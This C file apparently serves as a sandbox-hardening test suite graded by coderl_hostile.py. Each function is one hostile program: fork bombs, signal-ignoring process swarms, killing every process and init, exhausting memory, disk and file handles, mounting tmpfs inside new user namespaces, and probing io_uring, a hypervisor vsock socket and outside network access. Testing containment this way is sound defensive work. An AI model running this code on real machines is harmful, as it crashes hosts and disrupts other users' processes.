/* Attacks on a machine, one function each; `ATTACK` is the one that main runs. Judged by coderl_hostile.py. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/vm_sockets.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ipc.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

static void fill(const char *name) {
    static char block[1 << 20];
    memset(block, 7, sizeof block);
    int file = open(name, O_CREAT | O_WRONLY, 0600);
    for (int i = 0; i < 3000; i++) if (write(file, block, sizeof block) <= 0) {
        perror(name);
        exit(3);
    }
}

static void *sleeper(void *unused) {
    pause();
    return unused;
}

static int fork_bomb(void) {
    for (;;) fork();
}

static int respawning_swarm(void) {
    for (int i = 0; i < 6; i++) fork();
    for (;;) {
        if (fork()) _exit(0);
        setsid();
    }
}

static int swarm_that_ignores_signals(void) {
    signal(SIGTERM, SIG_IGN);
    signal(SIGHUP, SIG_IGN);
    for (;;) {
        if (!fork()) {
            setsid();
            for (;;) pause();
        }
    }
}

static int double_forked_daemons(void) {
    for (int i = 0; i < 20; i++) if (!fork()) {
        setsid();
        if (!fork()) for (;;) pause();
        _exit(0);
    }
    return 0;
}

static int threads(void) {
    for (;;) {
        pthread_t t;
        if (pthread_create(&t, 0, sleeper, 0)) return 3;
    }
}

static int stops_its_neighbours(void) {
    kill(-1, SIGSTOP);
    for (;;) pause();
}

static int kills_its_neighbours(void) {
    kill(-1, SIGKILL);
    kill(1, SIGKILL);
    for (;;) pause();
}

static int private_memory(void) {
    for (;;) {
        char *p = malloc(32 << 20);
        memset(p, 7, 32 << 20);
    }
}

static int shared_memory_1_5_gb(void) {
    size_t n = 1500u << 20;
    char *p = mmap(0, n, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
    memset(p, 7, n);
    return 0;
}

static int memfd_1_6_gb(void) {
    static char b[1 << 20];
    memset(b, 7, sizeof b);
    int f = memfd_create("x", 0);
    for (int i = 0; i < 1600; i++) if (write(f, b, sizeof b) < 0) return 3;
    return 0;
}

static int system_v_segments(void) {
    for (int i = 0; i < 60; i++) {
        int s = shmget(IPC_PRIVATE, 32 << 20, IPC_CREAT | 0600);
        void *p = shmat(s, 0, 0);
        if (p == (void *)-1) return 3;
        memset(p, 7, 32 << 20);
        shmdt(p);
    }
    return 0;
}

static int memory_in_40_processes(void) {
    for (int i = 0; i < 40; i++) if (!fork()) {
        char *p = malloc(32 << 20);
        memset(p, i, 32 << 20);
        pause();
    }
    for (;;) pause();
}

static int disk(void) {
    fill("/tmp/big");
    return 0;
}

static int disk_under_the_tree(void) {
    fill("big");
    return 0;
}

static int disk_by_dev_shm(void) {
    fill("/dev/shm/big");
    return 0;
}

static int files_without_number(void) {
    char n[64];
    for (int i = 0;; i++) {
        sprintf(n, "/tmp/f%d", i);
        if (open(n, O_CREAT | O_WRONLY, 0600) < 0 && errno != EMFILE) return 3;
        close(3);
    }
}

static int nested_user_namespace_with_a_tmpfs(void) {
    if (unshare(CLONE_NEWUSER | CLONE_NEWNS) || mount("t", "/tmp", "tmpfs", 0, "size=4g")) return 3;
    fill("/tmp/big");
    return 0;
}

static int nested_namespace_by_clone(void) {
    if (syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0) < 0) return 3;
    return 0;
}

static int mounting(void) {
    return mount("t", "/tmp", "tmpfs", 0, "") ? 3 : 0;
}

static int io_uring(void) {
    char p[512] = {0};
    return syscall(425, 8, p) < 0 ? 3 : 0;
}

static int socket_to_the_hypervisor(void) {
    return socket(AF_VSOCK, SOCK_STREAM, 0) < 0 ? 3 : 0;
}

static int socket_to_the_world(void) {
    int s = socket(AF_INET, SOCK_STREAM, 0);
    struct sockaddr_in a = {AF_INET, htons(53), {inet_addr("192.0.2.1")}};
    return connect(s, (void *)&a, sizeof a) ? 3 : 0;
}

static int spins(void) {
    for (;;);
}

static int spins_in_60_processes(void) {
    for (int i = 0; i < 59; i++) if (!fork()) for (;;);
    for (;;);
}

static int sleeps(void) {
    for (;;) pause();
}

static int prints_without_end(void) {
    for (;;) puts("x");
}

static int dumps_core(void) {
    abort();
}

static int localhost_an_honest_server(void) {
    int s = socket(AF_INET, SOCK_STREAM, 0), c = socket(AF_INET, SOCK_STREAM, 0);
    struct sockaddr_in a = {AF_INET, htons(4711), {htonl(INADDR_LOOPBACK)}};
    if (bind(s, (void *)&a, sizeof a) || listen(s, 1)) return 3;
    return connect(c, (void *)&a, sizeof a) ? 3 : 0;
}

static int a_terminal_honestly(void) {
    int m = posix_openpt(O_RDWR);
    if (m < 0 || grantpt(m) || unlockpt(m)) return 3;
    return open(ptsname(m), O_RDWR) < 0 ? 4 : 0;
}

int main(void) {
    return ATTACK();
}
